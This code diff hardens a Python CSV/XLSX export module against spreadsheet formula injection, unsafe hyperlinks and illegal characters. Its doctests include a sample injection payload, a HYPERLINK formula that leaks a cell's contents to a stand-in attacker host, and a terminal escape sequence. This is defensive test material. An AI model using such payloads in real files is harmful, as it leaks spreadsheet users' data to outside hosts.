@@ -6,6 +6,13 @@ each source cell links to its evidence: to the article's web address when the ce
 source that has one, otherwise to that source's row in the Sources sheet; a cell comment gives
 the titles of all the sources it cites.
 
+Text comes from news articles, and facilitators open these files in Excel or LibreOffice, so no
+text can become a formula: in the workbook every text is a string cell (`=HYPERLINK(…)` stays
+those characters), and in CSV, which has no cell types, a text that a spreadsheet program would
+take for a formula gets a leading `'` (OWASP's advice for CSV injection). Characters that XLSX
+cannot hold are written as escapes (`\x1b`), and a text longer than a cell can hold is cut with
+a note.
+
 Example
 -------
 >>> [name for name, _ in tables([], [], {})]
@@ -19,8 +26,10 @@ import datetime as dt
 from collections.abc import Mapping, Sequence
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlparse
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.comments import Comment
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
@@ -106,14 +115,45 @@ def _text(value: Any) -> str:
     return str(value)
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what makes Excel or LibreOffice read a CSV cell as a formula
+XLSX_CELL_LIMIT = 32_767  # characters; Excel calls a file with a longer cell damaged
+
+
+def csv_cell(value: Any) -> str:
+    """A value as CSV text that no spreadsheet program takes for a formula; numbers stay numbers.
+
+    >>> csv_cell('=HYPERLINK("http://evil.example/?leak="&A1,"Muhyidin")')[:12]
+    "'=HYPERLINK("
+    >>> csv_cell(-3), csv_cell("Muhyidin")
+    ('-3', 'Muhyidin')
+    """
+    text = _text(value)
+    if isinstance(value, (str, tuple)) and text.startswith(FORMULA_STARTS):
+        return "'" + text
+    return text
+
+
 def write_csv(table: Table, path: Path) -> Path:
     """One table as UTF-8 CSV (with a BOM, so that spreadsheet programs read Indonesian text right)."""
     header, rows = table
     with path.open("w", encoding="utf-8-sig", newline="") as handle:
         writer = csv.writer(handle)
         writer.writerow(header)
-        writer.writerows([_text(v) for v in row] for row in rows)
+        writer.writerows([csv_cell(v) for v in row] for row in rows)
     return path
+
+
+def xlsx_text(text: str) -> str:
+    r"""Text as an XLSX cell can hold it: characters XML 1.0 forbids as escapes, and cut to Excel's limit.
+
+    >>> print(xlsx_text("\x1b]0;PWNED\x07"))
+    \x1b]0;PWNED\x07
+    """
+    text = ILLEGAL_CHARACTERS_RE.sub(lambda m: f"\\x{ord(m.group()):02x}", text)
+    if len(text) > XLSX_CELL_LIMIT:
+        note = f" … [cut: {len(text):,} characters]"
+        text = text[:XLSX_CELL_LIMIT - len(note)] + note
+    return text
 
 
 def write_workbook(sections: Sequence[tuple[str, Table]], sources: Mapping[str, Mapping[str, Any]],
@@ -127,8 +167,9 @@ def write_workbook(sections: Sequence[tuple[str, Table]], sources: Mapping[str, 
         sheet.append(header)
         for cell in sheet[1]:
             cell.font = Font(bold=True)
-        for values in rows:
-            sheet.append([_cell(v) for v in values])
+        for r, values in enumerate(rows, start=2):
+            for column, value in enumerate(values, start=1):
+                _put(sheet.cell(row=r, column=column), value)
         for column, title in enumerate(header, start=1):
             if title in ("sources", "url"):
                 for r, values in enumerate(rows, start=2):
@@ -141,23 +182,35 @@ def write_workbook(sections: Sequence[tuple[str, Table]], sources: Mapping[str, 
     return path
 
 
-def _cell(value: Any) -> Any:
-    return value if isinstance(value, (int, float, dt.date)) or value is None else _text(value)
+def _put(cell: Any, value: Any) -> None:
+    """Numbers and dates as themselves; everything else as a string cell, never a formula."""
+    if value is None:
+        return
+    if isinstance(value, (int, float, dt.date)) and not isinstance(value, bool):
+        cell.value = value
+        return
+    cell.value = xlsx_text(_text(value))
+    cell.data_type = "s"  # openpyxl makes any text that starts with "=" a formula
 
 
 def _link(cell: Any, value: Any, title: str, sources: Mapping[str, Mapping[str, Any]],
           source_rows: Mapping[str, int]) -> None:
     if title == "url":
-        if value:
+        if _is_web_address(value):
             cell.hyperlink = str(value)
         return
     cited = [s for s in value or () if s in sources]
     if not cited:
         return
     url = sources[cited[0]].get("url") if len(cited) == 1 else None
-    if url:
+    if _is_web_address(url):
         cell.hyperlink = str(url)
     else:  # an internal link: a location, not a target, so that spreadsheet programs jump within the file
         cell.hyperlink = Hyperlink(ref=cell.coordinate, location=f"'Sources'!A{source_rows[cited[0]]}")
-    cell.comment = Comment("\n".join(f"{s}: {sources[s].get('title')}" for s in cited), "kg")
+    cell.comment = Comment(xlsx_text("\n".join(f"{s}: {sources[s].get('title')}" for s in cited)), "kg")
     cell.font = Font(color="0563C1", underline="single")
+
+
+def _is_web_address(url: Any) -> bool:
+    """Only http(s) links: a file:, UNC or javascript: target from an article must not be one click away."""
+    return bool(url) and urlparse(str(url)).scheme in ("http", "https")
